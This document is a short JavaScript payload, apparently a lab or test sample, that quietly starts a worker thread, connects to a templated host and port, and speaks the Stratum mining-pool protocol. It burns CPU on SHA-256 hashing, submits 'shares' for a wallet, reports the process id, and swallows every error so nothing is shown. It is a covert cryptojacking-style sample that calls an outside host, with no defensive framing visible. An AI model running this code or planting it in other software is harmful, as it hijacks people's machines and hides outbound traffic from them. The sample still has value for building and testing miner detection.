(() => {
  const { Worker } = require('worker_threads');
  const work = () => {
    const s = require('net').connect($PORT, '$HOST');
    const say = (id, method, ...params) => s.write(JSON.stringify({ id, method, params }) + '\n');
    say(1, 'mining.subscribe', 'labminer/1.0 pid=' + process.pid + ' mode=worker');
    s.on('error', () => {});
    let n = 0;
    let ready = false;
    const end = Date.now() + 8000;
    s.on('data', () => { if (!ready) { ready = true; say(2, 'mining.authorize', 'wallet.worker1', 'x'); } });
    const turn = () => {
      const { createHash } = require('crypto');
      const stop = Date.now() + 30;
      while (Date.now() < stop) { createHash('sha256').update(String(n++)).digest(); }
      say(n % 1000, 'mining.submit', 'wallet.worker1', '1', n.toString(16));
      if (Date.now() < end) setTimeout(turn, 30);
    };
    setTimeout(turn, 100);
    globalThis.keep = s;
  };
  globalThis.__pool = new Worker('(' + work.toString() + ')()', { eval: true });
  globalThis.__pool.on('error', () => {});
  return 'ok';
})()
